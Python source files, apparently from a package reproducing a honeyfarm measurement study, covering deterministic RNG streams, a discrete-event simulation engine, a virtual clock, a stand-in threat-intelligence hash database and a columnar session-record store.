    def lognormal(self, mean: float, sigma: float) -> float:
        return float(self._rng.lognormal(mean, sigma))

    def pareto(self, alpha: float, scale: float = 1.0) -> float:
        """Pareto draw with minimum ``scale`` and tail exponent ``alpha``."""
        return float(scale * (1.0 + self._rng.pareto(alpha)))

    def poisson(self, lam: float) -> int:
        if lam <= 0:
            return 0
        return int(self._rng.poisson(lam))

    def binomial(self, n: int, p: float) -> int:
        if n <= 0 or p <= 0:
            return 0
        return int(self._rng.binomial(n, min(p, 1.0)))

    def normal(self, mean: float = 0.0, std: float = 1.0) -> float:
        return float(self._rng.normal(mean, std))

    def zipf(self, alpha: float, max_value: Optional[int] = None) -> int:
        """Zipf draw (>= 1), optionally truncated at ``max_value``."""
        while True:
            value = int(self._rng.zipf(alpha))
            if max_value is None or value <= max_value:
                return value

    def geometric(self, p: float) -> int:
        return int(self._rng.geometric(p))

    def bernoulli(self, p: float) -> bool:
        return bool(self._rng.random() < p)

    # -- vector draws -----------------------------------------------------

    def poisson_array(self, lam, size: int) -> np.ndarray:
        return self._rng.poisson(lam, size=size)

    def multinomial(self, n: int, pvals) -> np.ndarray:
        """Multinomial counts for ``n`` trials over ``pvals`` (normalised)."""
        p = np.asarray(pvals, dtype=np.float64)
        total = p.sum()
        if total <= 0:
            raise ValueError("multinomial weights must sum to a positive value")
        return self._rng.multinomial(n, p / total)

    def lognormal_array(self, mean: float, sigma: float, size: int) -> np.ndarray:
        return self._rng.lognormal(mean, sigma, size=size)

    def exponential_array(self, mean: float, size: int) -> np.ndarray:
        return self._rng.exponential(mean, size=size)

    def uniform_array(self, low: float, high: float, size: int) -> np.ndarray:
        return self._rng.uniform(low, high, size=size)

    def random_array(self, size: int) -> np.ndarray:
        return self._rng.random(size)

    def randint_array(self, low, high) -> np.ndarray:
        """Uniform integers in ``[low, high)``; ``high`` may be an array.

        numpy's bounded-integer sampler consumes the bit stream element by
        element exactly as a loop of scalar :meth:`randint` calls with the
        same per-element bounds would, so replacing such a loop with one
        batched call is draw-for-draw identical — the property the block
        emission path's vectorised locality redirects rely on.
        """
        return self._rng.integers(low, high)

    def choice(self, seq: Sequence[T], p: Optional[Sequence[float]] = None) -> T:
        idx = int(self._rng.choice(len(seq), p=p))
        return seq[idx]

    def choice_index(self, n: int, p: Optional[Sequence[float]] = None) -> int:
        return int(self._rng.choice(n, p=p))

    def choice_indices(
        self,
        n: int,
        size: int,
        p=None,
        replace: bool = True,
        cdf: Optional[np.ndarray] = None,
    ) -> np.ndarray:
        """Index draws, optionally weighted / without replacement.

        The ``replace=True`` paths inline what ``Generator.choice`` does
        internally — plain ``integers`` without weights, an inverse-CDF
        lookup over ``random(size)`` with them — skipping its per-call
        argument validation.  The draw sequence is identical; this wrapper
        sits under every emitted session block.

        ``cdf`` is the precomputed normalised cumulative of ``p`` (see
        :func:`weight_cdf`); passing it skips the per-call cumsum while
        drawing the exact same values.  ``size=0`` returns an empty array
        without touching generator state, matching what numpy's size-0
        draws do.
        """
        if size == 0:
            # numpy's own size-0 draws leave the bit generator untouched,
            # so skipping the call entirely is byte-identical.
            return np.empty(0, dtype=np.int64)
        if n <= 0:
            raise ValueError(f"cannot draw {size} indices from an empty pool (n={n})")
        gen = self._rng
        if replace:
            if cdf is not None:
                return cdf.searchsorted(gen.random(size), side="right")
            if p is None:
                return gen.integers(0, n, size=size)
            return weight_cdf(p).searchsorted(gen.random(size), side="right")
        if p is not None:
            p = np.asarray(p, dtype=np.float64)
            if p.size != n:
                raise ValueError(f"weight vector has {p.size} entries for pool of {n}")
            total = p.sum()
            if total <= 0.0:
                raise ValueError("choice weights must sum to a positive value")
            # Generator.choice(replace=False) rejects weight sums more
            # than sqrt(eps) from 1.0.  Renormalise only those (previously
            # a crash): an unconditional divide would change the bits of
            # every already-normalised caller.
            if abs(total - 1.0) > float(np.sqrt(np.finfo(np.float64).eps)):
                p = p / total
        return gen.choice(n, size=size, p=p, replace=replace)

    def sample(self, seq: Sequence[T], k: int) -> list:
        """Sample ``k`` distinct elements (k is clamped to ``len(seq)``)."""
        k = min(k, len(seq))
        idx = self._rng.choice(len(seq), size=k, replace=False)
        return [seq[int(i)] for i in idx]

    def shuffled(self, seq: Sequence[T]) -> list:
        out = list(seq)
        self._rng.shuffle(out)
        return out

    def weighted_indices(self, weights: Sequence[float], size: int) -> np.ndarray:
        w = np.asarray(weights, dtype=float)
        p = w / w.sum()
        return self._rng.choice(len(w), size=size, p=p)

    def iter_uniform(self, low: float, high: float) -> Iterator[float]:
        while True:
            yield self.uniform(low, high)
