"""A small discrete-event simulation engine.

Used by the interactive generation path, where attacker agents and honeypot
state machines exchange timestamped events (connection attempts, keystrokes,
timeouts).  The engine is a classic priority-queue event loop with stable
FIFO ordering for simultaneous events.
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Any, Callable, List, Optional

from repro.obs import get_metrics, inc as _metric_inc
from repro.obs import trace as _trace
from repro.simulation.clock import SimClock, Timestamp


@dataclass(order=True)
class Event:
    """A scheduled callback. Ordered by (time, insertion sequence)."""

    when: float
    seq: int
    action: Callable[[], Any] = field(compare=False)
    label: str = field(default="", compare=False)
    cancelled: bool = field(default=False, compare=False)
    #: Flight-recorder trace id captured at schedule time; dispatch
    #: re-enters this context so work done by the action attributes to
    #: the session/connection that scheduled it.
    trace_id: Optional[str] = field(default=None, compare=False)

    def cancel(self) -> None:
        if not self.cancelled:
            self.cancelled = True
            _metric_inc("engine.events_cancelled")
            _trace.emit("engine.cancel", trace_id=self.trace_id,
                        sim_time=self.when, label=self.label)


class EventQueue:
    """Priority queue of :class:`Event` with stable ordering."""

    def __init__(self) -> None:
        self._heap: List[Event] = []
        self._counter = itertools.count()

    def push(self, when: float, action: Callable[[], Any], label: str = "") -> Event:
        event = Event(when=float(when), seq=next(self._counter), action=action, label=label,
                      trace_id=_trace.current_trace_id())
        heapq.heappush(self._heap, event)
        metrics = get_metrics()
        metrics.inc("engine.events_scheduled")
        metrics.gauge_max("engine.heap_depth_max", len(self._heap))
        return event

    def pop(self) -> Optional[Event]:
        while self._heap:
            event = heapq.heappop(self._heap)
            if not event.cancelled:
                return event
        return None

    def peek_time(self) -> Optional[float]:
        while self._heap and self._heap[0].cancelled:
            heapq.heappop(self._heap)
        return self._heap[0].when if self._heap else None

    def __len__(self) -> int:
        return sum(1 for e in self._heap if not e.cancelled)

    def __bool__(self) -> bool:
        return self.peek_time() is not None


class SimulationEngine:
    """Event loop binding an :class:`EventQueue` to a :class:`SimClock`."""

    def __init__(self, clock: Optional[SimClock] = None):
        self.clock = clock or SimClock()
        self.queue = EventQueue()
        self.events_processed = 0

    @property
    def now(self) -> Timestamp:
        return self.clock.now

    def schedule(self, delay: float, action: Callable[[], Any], label: str = "") -> Event:
        """Schedule ``action`` to run ``delay`` seconds from now."""
        if delay < 0:
            raise ValueError(f"cannot schedule in the past (delay={delay!r})")
        return self.queue.push(self.clock.seconds + delay, action, label=label)

    def schedule_at(self, when: float, action: Callable[[], Any], label: str = "") -> Event:
        """Schedule ``action`` at absolute virtual second ``when``."""
        if when < self.clock.seconds:
            raise ValueError(
                f"cannot schedule in the past (now={self.clock.seconds}, when={when})"
            )
        return self.queue.push(when, action, label=label)

    def step(self) -> bool:
        """Process one event; returns False when the queue is empty."""
        event = self.queue.pop()
        if event is None:
            return False
        self.clock.advance_to(event.when)
        tracer = _trace.get_tracer()
        if tracer is None:
            event.action()
        else:
            # Re-enter the trace context captured at schedule time, so any
            # events the action emits group under its session/connection.
            with tracer.context(event.trace_id):
                tracer.emit("engine.dispatch", sim_time=event.when,
                            label=event.label)
                event.action()
        self.events_processed += 1
        _metric_inc("engine.events_dispatched")
        return True

    def run(self, until: Optional[float] = None, max_events: Optional[int] = None) -> int:
        """Run until the queue drains, ``until`` is reached, or ``max_events``.

        Returns the number of events processed by this call.
        """
        processed = 0
        while True:
            if max_events is not None and processed >= max_events:
                break
            next_time = self.queue.peek_time()
            if next_time is None:
                break
            if until is not None and next_time > until:
                self.clock.advance_to(until)
                break
            self.step()
            processed += 1
        return processed
