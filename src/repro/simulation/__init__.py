"""Simulation substrate: virtual time, deterministic RNG streams, event engine.

The paper analyses 15 months of wall-clock honeyfarm operation.  We replace
wall-clock time with a virtual clock (`SimClock`) anchored at the honeyfarm's
launch date and drive all stochastic choices from named, deterministic RNG
streams (`RngStream`) so that every trace, test and benchmark is reproducible
bit-for-bit from a single master seed.
"""

from repro.simulation.clock import SimClock, Timestamp, OBSERVATION_START, OBSERVATION_END, SECONDS_PER_DAY
from repro.simulation.rng import RngStream
from repro.simulation.engine import Event, EventQueue, SimulationEngine

__all__ = [
    "SimClock",
    "Timestamp",
    "OBSERVATION_START",
    "OBSERVATION_END",
    "SECONDS_PER_DAY",
    "RngStream",
    "Event",
    "EventQueue",
    "SimulationEngine",
]
