"""Virtual time for the honeyfarm simulation.

The paper's observation window runs from December 1, 2021 until March 31,
2023 (486 days).  We anchor virtual time at the window start and measure it
in seconds.  A :class:`Timestamp` is a thin wrapper over ``float`` seconds
since the anchor that knows how to convert itself to days, calendar dates and
ISO strings, which is all the analysis code ever needs.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass

SECONDS_PER_DAY = 86_400

#: Calendar anchor of virtual second 0 (the honeyfarm observation start).
ANCHOR_DATE = _dt.date(2021, 12, 1)

#: First virtual second of the observation window.
OBSERVATION_START = 0.0

#: Number of days in the paper's observation window (2021-12-01 .. 2023-03-31).
OBSERVATION_DAYS = 486

#: Last virtual second of the observation window (exclusive).
OBSERVATION_END = float(OBSERVATION_DAYS * SECONDS_PER_DAY)


@dataclass(frozen=True, order=True)
class Timestamp:
    """A point in virtual time, in seconds since the observation start."""

    seconds: float

    @property
    def day(self) -> int:
        """Zero-based day index within the observation window."""
        return int(self.seconds // SECONDS_PER_DAY)

    @property
    def second_of_day(self) -> float:
        return self.seconds - self.day * SECONDS_PER_DAY

    def date(self) -> _dt.date:
        """Calendar date of this timestamp."""
        return ANCHOR_DATE + _dt.timedelta(days=self.day)

    def isoformat(self) -> str:
        whole = int(self.seconds)
        frac = self.seconds - whole
        dt = _dt.datetime.combine(ANCHOR_DATE, _dt.time()) + _dt.timedelta(seconds=whole)
        return (dt + _dt.timedelta(seconds=frac)).isoformat()

    def __add__(self, other: float) -> "Timestamp":
        return Timestamp(self.seconds + float(other))

    def __sub__(self, other: "Timestamp") -> float:
        return self.seconds - other.seconds

    @classmethod
    def from_day(cls, day: int, second_of_day: float = 0.0) -> "Timestamp":
        return cls(day * SECONDS_PER_DAY + second_of_day)

    @classmethod
    def from_date(cls, date: _dt.date, second_of_day: float = 0.0) -> "Timestamp":
        day = (date - ANCHOR_DATE).days
        return cls.from_day(day, second_of_day)


def day_to_date(day: int) -> _dt.date:
    """Map a zero-based observation-day index to its calendar date."""
    return ANCHOR_DATE + _dt.timedelta(days=day)


def date_to_day(date: _dt.date) -> int:
    """Map a calendar date to its zero-based observation-day index."""
    return (date - ANCHOR_DATE).days


class SimClock:
    """A monotonically advancing virtual clock.

    The clock refuses to move backwards: honeypot session state machines and
    the discrete-event engine rely on monotonic time for timeout handling.
    """

    def __init__(self, start: float = OBSERVATION_START):
        self._now = float(start)

    @property
    def now(self) -> Timestamp:
        return Timestamp(self._now)

    @property
    def seconds(self) -> float:
        return self._now

    def advance(self, delta: float) -> Timestamp:
        """Advance the clock by ``delta`` seconds (must be non-negative)."""
        if delta < 0:
            raise ValueError(f"cannot advance clock by negative delta {delta!r}")
        self._now += delta
        return self.now

    def advance_to(self, when: float) -> Timestamp:
        """Advance the clock to absolute virtual second ``when``."""
        if when < self._now:
            raise ValueError(
                f"cannot move clock backwards: now={self._now}, requested={when}"
            )
        self._now = float(when)
        return self.now
