"""Hash-intelligence database (VirusTotal stand-in)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional

from repro.intel.tags import ThreatTag


@dataclass
class IntelEntry:
    """What a threat-intel lookup returns for one file hash."""

    sha256: str
    tag: ThreatTag
    family: str = ""
    first_submission_day: int = 0
    detections: int = 0


class IntelDatabase:
    """In-memory hash -> :class:`IntelEntry` map with coverage accounting.

    Real-world coverage is poor (the paper finds entries for <2% of its
    hashes); lookups of unindexed hashes return None, and the analysis layer
    treats those as :attr:`ThreatTag.UNKNOWN`, mirroring the paper.
    """

    def __init__(self) -> None:
        self._entries: Dict[str, IntelEntry] = {}
        self.lookups = 0
        self.hits = 0

    def register(
        self,
        sha256: str,
        tag: ThreatTag,
        family: str = "",
        first_submission_day: int = 0,
        detections: int = 0,
    ) -> IntelEntry:
        entry = IntelEntry(
            sha256=sha256,
            tag=tag,
            family=family,
            first_submission_day=first_submission_day,
            detections=detections,
        )
        self._entries[sha256] = entry
        return entry

    def lookup(self, sha256: str) -> Optional[IntelEntry]:
        self.lookups += 1
        entry = self._entries.get(sha256)
        if entry is not None:
            self.hits += 1
        return entry

    def tag_of(self, sha256: str) -> ThreatTag:
        """Tag for a hash; UNKNOWN when the database has no entry."""
        entry = self._entries.get(sha256)
        return entry.tag if entry is not None else ThreatTag.UNKNOWN

    def tags_for(self, hashes: Iterable[str]) -> Dict[str, ThreatTag]:
        return {h: self.tag_of(h) for h in hashes}

    def coverage(self, hashes: Iterable[str]) -> float:
        """Fraction of ``hashes`` the database has entries for."""
        total = 0
        known = 0
        for h in hashes:
            total += 1
            if h in self._entries:
                known += 1
        return known / total if total else 0.0

    def entries(self) -> List[IntelEntry]:
        return list(self._entries.values())

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, sha256: str) -> bool:
        return sha256 in self._entries
