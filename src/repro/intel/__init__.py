"""Synthetic threat-intelligence substrate.

The paper cross-checks the 64k observed file hashes against VirusTotal
(finding information for fewer than 1,000 of them) plus manual checks in
ClamAV, FileScan.IO, InQuest, CERT.PL MWDB and YOROI YOMI for the popular
hashes.  We reproduce that surface with a hash->tag database populated by
the workload's campaigns, including the characteristic low coverage rate.
"""

from repro.intel.tags import ThreatTag
from repro.intel.database import IntelDatabase, IntelEntry

__all__ = ["ThreatTag", "IntelDatabase", "IntelEntry"]
