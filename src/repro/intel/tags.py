"""Threat tags used by the paper's hash tables (Tables 4-6, Figure 22)."""

from __future__ import annotations

import enum


class ThreatTag(enum.Enum):
    MIRAI = "mirai"
    TROJAN = "trojan"
    MALICIOUS = "malicious"
    MINER = "miner"
    SUSPICIOUS = "suspicious"
    UNKNOWN = "unknown"

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


#: Tags that denote a confirmed malware family vs. merely flagged content.
FAMILY_TAGS = (ThreatTag.MIRAI, ThreatTag.TROJAN, ThreatTag.MINER)
FLAG_TAGS = (ThreatTag.MALICIOUS, ThreatTag.SUSPICIOUS)
