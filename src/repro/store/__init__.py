"""Session-record storage: the honeyfarm's central database.

The farm collector reduces every honeypot session to a summary record; the
paper's entire analysis runs over ~402 M such records.  To keep paper-scale
synthetic traces tractable in Python, the store is *columnar*: numeric
per-session fields live in numpy arrays, and repetitive payloads (command
scripts, file hashes, passwords, honeypot ids) are interned into side
tables.  Records go in through a :class:`StoreBuilder` and analyses run
against the frozen :class:`SessionStore`.
"""

from repro.store.interning import StringTable
from repro.store.records import CommandScript, SessionRecord
from repro.store.store import SessionStore, StoreBuilder
from repro.store.io import read_jsonl, write_jsonl
from repro.store.npz import load_npz, save_npz

__all__ = [
    "StringTable",
    "CommandScript",
    "SessionRecord",
    "SessionStore",
    "StoreBuilder",
    "read_jsonl",
    "write_jsonl",
    "load_npz",
    "save_npz",
]
