"""Persistence for session records: JSON Lines (optionally gzipped).

One JSON object per session, mirroring :class:`SessionRecord`.  The format
is deliberately boring — it is the interchange surface between the
generator, the analysis library, and external tooling.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Iterable, Iterator, Union

from repro.store.records import SessionRecord
from repro.store.store import SessionStore, StoreBuilder

PathLike = Union[str, Path]


def _open(path: PathLike, mode: str):
    path = Path(path)
    if path.suffix == ".gz":
        return gzip.open(path, mode + "t", encoding="utf-8")
    return open(path, mode, encoding="utf-8")


def record_to_dict(record: SessionRecord) -> dict:
    return {
        "start_time": record.start_time,
        "duration": record.duration,
        "honeypot_id": record.honeypot_id,
        "protocol": record.protocol,
        "client_ip": record.client_ip,
        "client_asn": record.client_asn,
        "client_country": record.client_country,
        "n_login_attempts": record.n_login_attempts,
        "login_success": record.login_success,
        "username": record.username,
        "password": record.password,
        "commands": list(record.commands),
        "uris": list(record.uris),
        "file_hashes": list(record.file_hashes),
        "close_reason": record.close_reason,
        "client_version": record.client_version,
    }


def record_from_dict(data: dict) -> SessionRecord:
    return SessionRecord(
        start_time=float(data["start_time"]),
        duration=float(data["duration"]),
        honeypot_id=data["honeypot_id"],
        protocol=data["protocol"],
        client_ip=int(data["client_ip"]),
        client_asn=int(data.get("client_asn", -1)),
        client_country=data.get("client_country", ""),
        n_login_attempts=int(data.get("n_login_attempts", 0)),
        login_success=bool(data.get("login_success", False)),
        username=data.get("username", ""),
        password=data.get("password", ""),
        commands=tuple(data.get("commands", ())),
        uris=tuple(data.get("uris", ())),
        file_hashes=tuple(data.get("file_hashes", ())),
        close_reason=data.get("close_reason", "client-disconnect"),
        client_version=data.get("client_version", ""),
    )


def write_jsonl(records: Iterable[SessionRecord], path: PathLike) -> int:
    """Write records to a JSONL (or .jsonl.gz) file. Returns row count."""
    count = 0
    with _open(path, "w") as fh:
        for record in records:
            fh.write(json.dumps(record_to_dict(record), separators=(",", ":")))
            fh.write("\n")
            count += 1
    return count


def iter_jsonl(path: PathLike) -> Iterator[SessionRecord]:
    """Stream records from a JSONL (or .jsonl.gz) file."""
    with _open(path, "r") as fh:
        for line in fh:
            line = line.strip()
            if line:
                yield record_from_dict(json.loads(line))


def read_jsonl(path: PathLike) -> SessionStore:
    """Load a JSONL trace into a frozen :class:`SessionStore`."""
    builder = StoreBuilder()
    for record in iter_jsonl(path):
        builder.append(record)
    return builder.build()
