"""String interning tables used by the columnar session store."""

from __future__ import annotations

import hashlib
from typing import Dict, Iterable, List, Optional, Tuple

#: Rolling-digest seed for an empty table.
_EMPTY_CHAIN = b"\x00" * 16


def _chain_step(chain: bytes, value: str) -> bytes:
    """One step of the rolling content digest: H(prev || value)."""
    h = hashlib.blake2b(chain, digest_size=16)
    h.update(value.encode("utf-8", "surrogatepass"))
    return h.digest()


class StringTable:
    """Bidirectional string <-> integer-id mapping.

    Id 0 upward; lookups of unknown strings either raise or intern depending
    on the call used.  The table is append-only, so ids are stable.

    The table also maintains a rolling content digest (``_chain``) updated
    on every *new* intern, plus prefix marks recorded at :meth:`copy` time.
    A mark ``(length, chain)`` proves what the first ``length`` entries
    were when the fork happened; since tables are append-only, a copied
    table whose mark matches one of ours remaps its shared prefix to the
    identity without comparing a single string — the shard-merge fast path.
    """

    def __init__(self, initial: Optional[Iterable[str]] = None):
        self._strings: List[str] = []
        self._ids: Dict[str, int] = {}
        self._chain: bytes = _EMPTY_CHAIN
        #: Trusted prefix snapshots: length -> chain at that length.  Only
        #: lengths at which a fork was taken are recorded, so the dict
        #: stays tiny.
        self._marks: Dict[int, bytes] = {}
        #: The (length, chain) this table was forked at, or None for a
        #: table built from scratch.
        self._fork_mark: Optional[Tuple[int, bytes]] = None
        if initial:
            for s in initial:
                self.intern(s)

    def intern(self, value: str) -> int:
        """Return the id of ``value``, adding it if unseen."""
        existing = self._ids.get(value)
        if existing is not None:
            return existing
        new_id = len(self._strings)
        self._strings.append(value)
        self._ids[value] = new_id
        self._chain = _chain_step(self._chain, value)
        return new_id

    def id_of(self, value: str) -> int:
        """Id of an already-interned string (KeyError if unknown)."""
        return self._ids[value]

    def get_id(self, value: str) -> Optional[int]:
        return self._ids.get(value)

    def value_of(self, string_id: int) -> str:
        return self._strings[string_id]

    def __len__(self) -> int:
        return len(self._strings)

    def __contains__(self, value: str) -> bool:
        return value in self._ids

    def values(self) -> List[str]:
        return list(self._strings)

    def copy(self) -> "StringTable":
        """An independent table with the same contents and ids.

        Both sides record the fork point: the copy carries it as its
        ``_fork_mark`` (pickled along if the copy crosses a process
        boundary), the parent adds it to its trusted ``_marks`` so a later
        :meth:`shares_prefix` check is one dict lookup.
        """
        out = StringTable()
        out._strings = list(self._strings)
        out._ids = dict(self._ids)
        out._chain = self._chain
        out._fork_mark = (len(self._strings), self._chain)
        self._marks[len(self._strings)] = self._chain
        # A copy of a copy still shares the grandparent's prefix; keep the
        # inherited marks so sibling forks recognise each other through
        # the merge builder.
        out._marks = dict(self._marks)
        return out

    def shares_prefix(self, other: "StringTable") -> int:
        """Length of ``other``'s prefix provably equal to ours (0 if unknown).

        Non-zero only when ``other`` was forked (possibly in another
        process) from a table whose state this table has a trusted mark
        for — the common shard-merge shape.  Falls back to 0, never to a
        wrong answer: the rolling 128-bit digest makes a false match
        cryptographically implausible and append-only tables make a
        recorded mark permanently valid.
        """
        mark = other._fork_mark
        if mark is None:
            return 0
        length, chain = mark
        if length > len(self._strings):
            return 0
        if self._marks.get(length) == chain:
            return length
        if len(self._strings) == length and self._chain == chain:
            return length
        return 0
