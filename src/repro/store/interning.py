"""String interning tables used by the columnar session store."""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional


class StringTable:
    """Bidirectional string <-> integer-id mapping.

    Id 0 upward; lookups of unknown strings either raise or intern depending
    on the call used.  The table is append-only, so ids are stable.
    """

    def __init__(self, initial: Optional[Iterable[str]] = None):
        self._strings: List[str] = []
        self._ids: Dict[str, int] = {}
        if initial:
            for s in initial:
                self.intern(s)

    def intern(self, value: str) -> int:
        """Return the id of ``value``, adding it if unseen."""
        existing = self._ids.get(value)
        if existing is not None:
            return existing
        new_id = len(self._strings)
        self._strings.append(value)
        self._ids[value] = new_id
        return new_id

    def id_of(self, value: str) -> int:
        """Id of an already-interned string (KeyError if unknown)."""
        return self._ids[value]

    def get_id(self, value: str) -> Optional[int]:
        return self._ids.get(value)

    def value_of(self, string_id: int) -> str:
        return self._strings[string_id]

    def __len__(self) -> int:
        return len(self._strings)

    def __contains__(self, value: str) -> bool:
        return value in self._ids

    def values(self) -> List[str]:
        return list(self._strings)

    def copy(self) -> "StringTable":
        """An independent table with the same contents and ids."""
        out = StringTable()
        out._strings = list(self._strings)
        out._ids = dict(self._ids)
        return out
