"""Transfer objects for session records.

:class:`SessionRecord` is the row-shaped view of one session — what goes in
and out of the columnar store and onto disk.  :class:`CommandScript` is the
interned unit of client interaction: the ordered command list a client ran,
together with the URIs it referenced.  Campaigns reuse one script across
millions of sessions, which is exactly why interning pays.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

import numpy as np

from repro.honeypot.session import CloseReason, SessionSummary

#: Canonical fixed-dtype store columns, in builder/persistence order.
#: One place defines the on-disk and in-memory layout; the chunked
#: :class:`~repro.store.store.StoreBuilder` accumulates exactly these and
#: ``repro.store.npz`` persists them verbatim (plus the derived
#: ``n_commands`` / ``has_uri`` script columns and the CSR hash column).
STORE_COLUMN_DTYPES = {
    "start_time": np.float64,
    "duration": np.float32,
    "honeypot": np.int32,
    "protocol": np.uint8,
    "client_ip": np.uint32,
    "client_asn": np.int32,
    "client_country": np.int32,
    "n_attempts": np.uint16,
    "login_success": np.bool_,
    "script_id": np.int32,
    "password_id": np.int32,
    "username_id": np.int32,
    "close_reason": np.uint8,
    "version_id": np.int32,
}


@dataclass(frozen=True)
class CommandScript:
    """An interned client interaction script."""

    commands: Tuple[str, ...]
    uris: Tuple[str, ...] = ()

    @property
    def has_uri(self) -> bool:
        return bool(self.uris)

    def key(self) -> Tuple:
        return (self.commands, self.uris)


@dataclass
class SessionRecord:
    """One honeyfarm session, row-shaped."""

    start_time: float
    duration: float
    honeypot_id: str
    protocol: str  # "ssh" | "telnet"
    client_ip: int
    client_asn: int
    client_country: str
    n_login_attempts: int
    login_success: bool
    username: str = ""
    password: str = ""  # successful password, or last attempted
    commands: Tuple[str, ...] = ()
    uris: Tuple[str, ...] = ()
    file_hashes: Tuple[str, ...] = ()
    close_reason: str = CloseReason.CLIENT_DISCONNECT.value
    client_version: str = ""

    @property
    def day(self) -> int:
        return int(self.start_time // 86_400)

    @property
    def end_time(self) -> float:
        return self.start_time + self.duration

    @classmethod
    def from_summary(
        cls,
        summary: SessionSummary,
        client_asn: int = -1,
        client_country: str = "",
    ) -> "SessionRecord":
        """Convert a live honeypot :class:`SessionSummary` to a record."""
        username, password = "", ""
        if summary.credentials:
            username, password = summary.credentials[-1]
            if summary.login_success:
                for user, pw in summary.credentials:
                    # The successful attempt is the last one by construction,
                    # but be robust to replayed credential lists.
                    username, password = user, pw
        return cls(
            start_time=summary.start_time,
            duration=summary.duration,
            honeypot_id=summary.honeypot_id,
            protocol=summary.protocol.value,
            client_ip=summary.client_ip,
            client_asn=client_asn,
            client_country=client_country,
            n_login_attempts=len(summary.credentials),
            login_success=summary.login_success,
            username=username,
            password=password,
            commands=tuple(summary.commands),
            uris=tuple(summary.uris),
            file_hashes=tuple(summary.file_hashes),
            close_reason=summary.close_reason.value,
            client_version=summary.client_version,
        )
