"""Columnar session store and its builder."""

from __future__ import annotations

import time
from typing import Iterator, List, Optional, Sequence, Tuple

import numpy as np

from repro.honeypot.session import CloseReason
from repro.obs import get_metrics, inc as _metric_inc
from repro.store.interning import StringTable
from repro.store.records import CommandScript, SessionRecord

SECONDS_PER_DAY = 86_400

PROTOCOL_SSH = 0
PROTOCOL_TELNET = 1
_PROTOCOL_NAMES = ("ssh", "telnet")

_CLOSE_REASONS = tuple(reason.value for reason in CloseReason)
_CLOSE_REASON_IDS = {name: i for i, name in enumerate(_CLOSE_REASONS)}


class StoreBuilder:
    """Accumulates session records, then freezes them into a SessionStore."""

    def __init__(self) -> None:
        self.honeypots = StringTable()
        self.countries = StringTable()
        self.passwords = StringTable()
        self.usernames = StringTable()
        self.hashes = StringTable()
        self.versions = StringTable()
        self.scripts: List[CommandScript] = []
        self._script_ids: dict = {}

        self._start: List[float] = []
        self._duration: List[float] = []
        self._honeypot: List[int] = []
        self._protocol: List[int] = []
        self._client_ip: List[int] = []
        self._client_asn: List[int] = []
        self._client_country: List[int] = []
        self._n_attempts: List[int] = []
        self._login_success: List[bool] = []
        self._script_id: List[int] = []
        self._password_id: List[int] = []
        self._username_id: List[int] = []
        self._close_reason: List[int] = []
        self._version_id: List[int] = []
        self._hash_ids: List[Tuple[int, ...]] = []

    def __len__(self) -> int:
        return len(self._start)

    # -- interning helpers ---------------------------------------------------

    def intern_script(self, commands: Sequence[str], uris: Sequence[str] = ()) -> int:
        """Intern a command script; returns its id (-1 for empty)."""
        commands = tuple(commands)
        uris = tuple(uris)
        if not commands:
            return -1
        key = (commands, uris)
        existing = self._script_ids.get(key)
        if existing is not None:
            return existing
        script_id = len(self.scripts)
        self.scripts.append(CommandScript(commands=commands, uris=uris))
        self._script_ids[key] = script_id
        return script_id

    # -- append paths ----------------------------------------------------------

    def append(self, record: SessionRecord) -> int:
        """Append a row-shaped record. Returns its index."""
        script_id = self.intern_script(record.commands, record.uris)
        return self.append_interned(
            start_time=record.start_time,
            duration=record.duration,
            honeypot_id=self.honeypots.intern(record.honeypot_id),
            protocol=(
                PROTOCOL_SSH if record.protocol == "ssh" else PROTOCOL_TELNET
            ),
            client_ip=record.client_ip,
            client_asn=record.client_asn,
            client_country_id=self.countries.intern(record.client_country),
            n_attempts=record.n_login_attempts,
            login_success=record.login_success,
            script_id=script_id,
            password_id=(
                self.passwords.intern(record.password) if record.password else -1
            ),
            username_id=(
                self.usernames.intern(record.username) if record.username else -1
            ),
            hash_ids=tuple(self.hashes.intern(h) for h in record.file_hashes),
            close_reason_id=_CLOSE_REASON_IDS.get(record.close_reason, 0),
            version_id=(
                self.versions.intern(record.client_version)
                if record.client_version
                else -1
            ),
        )

    def append_interned(
        self,
        start_time: float,
        duration: float,
        honeypot_id: int,
        protocol: int,
        client_ip: int,
        client_asn: int,
        client_country_id: int,
        n_attempts: int,
        login_success: bool,
        script_id: int = -1,
        password_id: int = -1,
        username_id: int = -1,
        hash_ids: Tuple[int, ...] = (),
        close_reason_id: int = 0,
        version_id: int = -1,
    ) -> int:
        """Fast path for bulk generation: all ids pre-interned."""
        self._start.append(start_time)
        self._duration.append(duration)
        self._honeypot.append(honeypot_id)
        self._protocol.append(protocol)
        self._client_ip.append(client_ip)
        self._client_asn.append(client_asn)
        self._client_country.append(client_country_id)
        self._n_attempts.append(n_attempts)
        self._login_success.append(login_success)
        self._script_id.append(script_id)
        self._password_id.append(password_id)
        self._username_id.append(username_id)
        self._close_reason.append(close_reason_id)
        self._version_id.append(version_id)
        self._hash_ids.append(hash_ids)
        _metric_inc("store.sessions_appended")
        return len(self._start) - 1

    def append_block(
        self,
        start_time: Sequence[float],
        duration: Sequence[float],
        honeypot_id: Sequence[int],
        protocol: Sequence[int],
        client_ip: Sequence[int],
        client_asn: Sequence[int],
        client_country_id: Sequence[int],
        n_attempts: Sequence[int],
        login_success: Sequence[bool],
        script_id: Sequence[int],
        password_id: Sequence[int],
        username_id: Sequence[int],
        hash_ids: Sequence[Tuple[int, ...]],
        close_reason_id: Sequence[int],
        version_id: Sequence[int],
    ) -> None:
        """Bulk append: all sequences must have equal length.

        This is the generator's hot path — column lists are extended
        directly instead of paying per-row call overhead.
        """
        n = len(start_time)
        for seq in (duration, honeypot_id, protocol, client_ip, client_asn,
                    client_country_id, n_attempts, login_success, script_id,
                    password_id, username_id, hash_ids, close_reason_id,
                    version_id):
            if len(seq) != n:
                raise ValueError("append_block sequences must share one length")
        self._start.extend(float(x) for x in start_time)
        self._duration.extend(float(x) for x in duration)
        self._honeypot.extend(int(x) for x in honeypot_id)
        self._protocol.extend(int(x) for x in protocol)
